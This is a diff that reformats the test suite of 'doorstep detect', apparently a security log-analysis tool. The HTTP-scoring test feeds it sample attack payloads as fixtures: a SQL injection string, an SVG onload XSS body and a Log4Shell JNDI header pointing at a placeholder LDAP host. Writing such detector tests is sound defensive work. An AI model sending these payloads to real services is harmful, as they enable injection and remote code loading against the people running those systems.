@@ -17,9 +17,20 @@ function file(name: string, lines: readonly string[] | Buffer): string {
   return path
 }
 
-function detect(...args: string[]): { code: number | null; rows: Record<string, unknown>[]; out: string; err: string } {
-  const done = spawnSync(process.execPath, [CLI, 'detect', ...args], { encoding: 'utf8', timeout: 110_000 })
-  const rows = done.stdout.split('\n').filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Record<string, unknown>)
+function detect(...args: string[]): {
+  code: number | null
+  rows: Record<string, unknown>[]
+  out: string
+  err: string
+} {
+  const done = spawnSync(process.execPath, [CLI, 'detect', ...args], {
+    encoding: 'utf8',
+    timeout: 110_000,
+  })
+  const rows = done.stdout
+    .split('\n')
+    .filter((line) => line.startsWith('{'))
+    .map((line) => JSON.parse(line) as Record<string, unknown>)
   return { code: done.status, rows, out: done.stdout, err: done.stderr }
 }
 
@@ -33,11 +44,17 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
     const { rows, code } = detect('--json', join(DATA, 'scans-interleaved.log'))
     expect(code).toBe(0)
     const lead = rows.flatMap((row) => row['lead'] as string[]).sort()
-    expect(lead).toEqual(['ip:198.51.100.23', 'ip:198.51.100.77', 'ip:203.0.113.140', 'ip:203.0.113.66'])
+    expect(lead).toEqual([
+      'ip:198.51.100.23',
+      'ip:198.51.100.77',
+      'ip:203.0.113.140',
+      'ip:203.0.113.66',
+    ])
     const lines = readFileSync(join(DATA, 'scans-interleaved.log'), 'utf8').split('\n')
     for (const row of rows) {
       const [ip] = row['lead'] as string[]
-      for (const line of row['lines'] as number[]) expect(`ip:${lines[line - 1]?.split(' ')[0]}`).toBe(ip)
+      for (const line of row['lines'] as number[])
+        expect(`ip:${lines[line - 1]?.split(' ')[0]}`).toBe(ip)
     }
   })
 
@@ -51,8 +68,13 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
     const { rows } = detect('--json', file('scan.log', SCAN))
     expect(rows).toHaveLength(1)
     expect(rows[0]).toMatchObject({
-      id: 'i-0', family: 'shop', lead: ['ip:203.0.113.9'], entities: ['ip:203.0.113.9'], severity: 3,
-      opened: Date.UTC(2015, 4, 17, 10, 5, 1), lines: [1, 2, 3, 4],
+      id: 'i-0',
+      family: 'shop',
+      lead: ['ip:203.0.113.9'],
+      entities: ['ip:203.0.113.9'],
+      severity: 3,
+      opened: Date.UTC(2015, 4, 17, 10, 5, 1),
+      lines: [1, 2, 3, 4],
     })
     expect(rows[0]).not.toHaveProperty('file')
   })
@@ -76,7 +98,12 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
       `shop.example 203.0.113.9 - anna [${at(3)}] "GET /phpmyadmin/ HTTP/1.1" 404 1`,
       `[2001:db8::7]:4711 - - [${at(4)}] "\\x16\\x03\\x01" 400 0 "-" "-"`,
     ]
-    const { rows, err, code } = detect('--json', '--format', 'combined', file('mixed.log.gz', gzipSync(lines.join('\n'))))
+    const { rows, err, code } = detect(
+      '--json',
+      '--format',
+      'combined',
+      file('mixed.log.gz', gzipSync(lines.join('\n'))),
+    )
     expect(code).toBe(0)
     expect(err).toMatch(/:1: no time in brackets, left out/)
     expect(err).toMatch(/:3: no such time/)
@@ -86,19 +113,60 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
 
   it('scores every line of http rows, in order, and says why', () => {
     const rows = [
-      { time: 1, method: 'GET', url: '/search?q=red+shoes', headers: {}, body: '', source: '10.0.0.1' },
-      { time: 2, method: 'GET', url: "/search?q=x%27%20OR%20%271%27%3D%271", headers: {}, source: '10.0.0.1' },
-      { time: 3, method: 'POST', url: '/review', headers: { 'Content-Type': 'application/json' }, body: '{"text":"<svg onload=alert(1)>"}', source: { ip: '10.0.0.1' } },
-      { time: 4, method: 'GET', url: '/', headers: { 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' }, source: '10.0.0.1' },
+      {
+        time: 1,
+        method: 'GET',
+        url: '/search?q=red+shoes',
+        headers: {},
+        body: '',
+        source: '10.0.0.1',
+      },
+      {
+        time: 2,
+        method: 'GET',
+        url: '/search?q=x%27%20OR%20%271%27%3D%271',
+        headers: {},
+        source: '10.0.0.1',
+      },
+      {
+        time: 3,
+        method: 'POST',
+        url: '/review',
+        headers: { 'Content-Type': 'application/json' },
+        body: '{"text":"<svg onload=alert(1)>"}',
+        source: { ip: '10.0.0.1' },
+      },
+      {
+        time: 4,
+        method: 'GET',
+        url: '/',
+        headers: { 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' },
+        source: '10.0.0.1',
+      },
       { time: 5, method: 'GET', url: '/account?name=O%27Brien', headers: {}, source: '10.0.0.1' },
     ].map((row) => JSON.stringify(row))
-    const { rows: out } = detect('--scores', '--json', '--format', 'http', file('http.jsonl', [...rows, '{"method":"GET"}', '[1]']))
+    const { rows: out } = detect(
+      '--scores',
+      '--json',
+      '--format',
+      'http',
+      file('http.jsonl', [...rows, '{"method":"GET"}', '[1]']),
+    )
     expect(out.map((row) => [row['line'], row['flagged'], 'error' in row])).toEqual([
-      [1, false, false], [2, true, false], [3, true, false], [4, true, false], [5, false, false],
-      [6, undefined, true], [7, undefined, true],
+      [1, false, false],
+      [2, true, false],
+      [3, true, false],
+      [4, true, false],
+      [5, false, false],
+      [6, undefined, true],
+      [7, undefined, true],
     ])
-    expect(out[1]?.['reasons']).toEqual(expect.arrayContaining([expect.stringMatching(/^parameter q: /)]))
-    expect(out[2]?.['reasons']).toEqual(expect.arrayContaining([expect.stringMatching(/^field text: /)]))
+    expect(out[1]?.['reasons']).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^parameter q: /)]),
+    )
+    expect(out[2]?.['reasons']).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^field text: /)]),
+    )
     for (const row of out.slice(0, 5)) {
       expect(row['score']).toBeGreaterThanOrEqual(0)
       expect(row['score']).toBeLessThanOrEqual(1)
@@ -106,18 +174,39 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
   })
 
   it('guesses OCSF and EPCIS line by line and refuses classes it does not know', () => {
-    const declined = (n: number): string => JSON.stringify({
-      class_uid: 99901, activity_id: 1, time: 1_700_000_000_000 + n * 1000, src_endpoint: { ip: '203.0.113.50' },
-      payment: {
-        message: 'authorisation', transaction_id: `t${n}`, merchant_reference: `order:${n}`, amount_minor: 100, currency: 'EUR',
-        card: { token: `tok_${n}`, bin: '990001', last4: '0000', country: 'NL' }, response_code: '05', sca: 'none',
-      },
-    })
+    const declined = (n: number): string =>
+      JSON.stringify({
+        class_uid: 99901,
+        activity_id: 1,
+        time: 1_700_000_000_000 + n * 1000,
+        src_endpoint: { ip: '203.0.113.50' },
+        payment: {
+          message: 'authorisation',
+          transaction_id: `t${n}`,
+          merchant_reference: `order:${n}`,
+          amount_minor: 100,
+          currency: 'EUR',
+          card: { token: `tok_${n}`, bin: '990001', last4: '0000', country: 'NL' },
+          response_code: '05',
+          sca: 'none',
+        },
+      })
     const epcis = JSON.stringify({
-      type: 'ObjectEvent', eventID: 'ni:///1', eventTime: '2023-11-14T22:13:20Z', eventTimeZoneOffset: '+00:00', action: 'OBSERVE',
-      bizStep: 'https://ref.gs1.org/cbv/BizStep-shipping', epcList: ['urn:epc:id:sgtin:1.2.3'], readPoint: { id: 'urn:epc:id:sgln:4' },
+      type: 'ObjectEvent',
+      eventID: 'ni:///1',
+      eventTime: '2023-11-14T22:13:20Z',
+      eventTimeZoneOffset: '+00:00',
+      action: 'OBSERVE',
+      bizStep: 'https://ref.gs1.org/cbv/BizStep-shipping',
+      epcList: ['urn:epc:id:sgtin:1.2.3'],
+      readPoint: { id: 'urn:epc:id:sgln:4' },
     })
-    const lines = [...Array.from({ length: 40 }, (_, n) => declined(n)), epcis, '{"class_uid":1,"time":1}', '{"type":"ObjectEvent","eventTime":"no","action":"OBSERVE"}']
+    const lines = [
+      ...Array.from({ length: 40 }, (_, n) => declined(n)),
+      epcis,
+      '{"class_uid":1,"time":1}',
+      '{"type":"ObjectEvent","eventTime":"no","action":"OBSERVE"}',
+    ]
     const { rows, err } = detect('--json', file('events.jsonl', lines))
     expect(err).toMatch(/:42: class_uid 1 is none the engine reads/)
     expect(err).toMatch(/:43: no such time: no/)
@@ -126,7 +215,10 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
   })
 
   it('counts lines out of order and still joins them', () => {
-    const { rows, err } = detect('--json', file('shuffled.log', [SCAN[3], SCAN[0], SCAN[2], SCAN[1]] as string[]))
+    const { rows, err } = detect(
+      '--json',
+      file('shuffled.log', [SCAN[3], SCAN[0], SCAN[2], SCAN[1]] as string[]),
+    )
     expect(err).toMatch(/3 lines out of order, by at most 3 s/)
     expect(rows.map((row) => row['lines'])).toEqual([[1, 2, 3, 4]])
   })
@@ -139,7 +231,9 @@ describe('doorstep detect', { timeout: 120_000 }, () => {
     const page = readFileSync(report, 'utf8')
     expect(page).toMatch(/<svg[^]*class="budget"/)
     expect(page).toMatch(/&lt;script&gt;/)
-    expect(page).not.toMatch(/<script|https?:\/\/(?!www\.w3\.org)[^"\s]*["')]\s*(?:rel|\))|url\(http/)
+    expect(page).not.toMatch(
+      /<script|https?:\/\/(?!www\.w3\.org)[^"\s]*["')]\s*(?:rel|\))|url\(http/,
+    )
     expect(page).not.toMatch(/\[[a-z]+_[a-z]+\]/)
   })
 
